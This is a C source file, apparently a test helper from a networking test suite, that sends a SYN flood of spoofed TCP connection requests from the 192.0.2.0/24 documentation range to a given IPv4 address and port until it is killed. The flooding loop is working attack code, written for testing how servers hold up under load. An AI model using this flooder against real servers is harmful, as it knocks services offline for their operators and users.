// SPDX-License-Identifier: GPL-2.0-only
/* A SYN flood: asks a server for connections in the name of clients that are not there. */

#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "tests/guest/lib/spoof.h"
#include "tests/guest/lib/scenario_exit.h"
#include "tests/symptoms/endpoint.h"

/* 192.0.2.0/24 (RFC 5737): who routes for this network has to drop the answers. */
#define NOBODYS_NETWORK	0xc0000200u
enum { NOBODIES = 254, SECOND_US = 1000 * 1000 };

static void usage(FILE *stream)
{
	fputs("usage: flood ADDRESS PORT PER_SECOND\n"
	      "Sends SYNs from 192.0.2.0/24 to an IPv4 address until it is killed.\n"
	      "Prints 'ready' when it has sent the first ones.\n", stream);
}

int main(int argc, char **argv)
{
	struct sockaddr_in from = { .sin_family = AF_INET }, to;
	unsigned long per_second, sent;
	struct endpoint server;
	int fd;

	if (argc == 2 && !strcmp(argv[1], "-h")) {
		usage(stdout);
		return PASSED;
	}
	if (argc != 4) {
		usage(stderr);
		return 2;
	}
	server = endpoint_of(argv[1], argv[2]);
	if (server.any.sa_family != AF_INET)
		fail("'%s' is no IPv4 address", argv[1]);
	memcpy(&to, &server.storage, sizeof(to));
	per_second = number_of(argv[3], SECOND_US);
	fd = spoofing_socket();
	for (sent = 0; ; sent++) {
		from.sin_addr.s_addr = htonl(NOBODYS_NETWORK + 1 + random() % NOBODIES);
		from.sin_port = htons(1024 + random() % 60000);
		send_syn(fd, &from, &to);
		if (sent == per_second) {
			puts("ready");
			fflush(stdout);
		}
		usleep(SECOND_US / per_second);
	}
}
